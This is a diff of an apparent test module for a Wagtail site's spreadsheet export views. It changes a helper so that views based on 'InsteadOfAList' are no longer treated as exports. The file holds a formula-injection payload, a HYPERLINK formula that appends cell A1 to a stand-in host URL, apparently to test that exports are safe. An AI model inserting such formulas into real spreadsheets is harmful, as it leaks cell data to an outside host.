@@ -12,6 +12,8 @@ from wagtail.contrib.redirects.models import Redirect
 from wagtail.log_actions import log
 from wagtail.models import Page, PageLogEntry
 
+from home.help.admin import InsteadOfAList
+
 HOSTILE = '=HYPERLINK("http://contoh.invalid/?"&A1;"klik")'
 
 
@@ -33,7 +35,8 @@ def exports(patterns=None, namespaces=()) -> list[str]:
 def _is_export(callback) -> bool:
     while hasattr(callback, "__wrapped__") and not hasattr(callback, "view_class"):
         callback = callback.__wrapped__
-    return issubclass(getattr(callback, "view_class", object), SpreadsheetExportMixin)
+    view = getattr(callback, "view_class", object)
+    return issubclass(view, SpreadsheetExportMixin) and not issubclass(view, InsteadOfAList)
 
 
 def text_of(response) -> str:
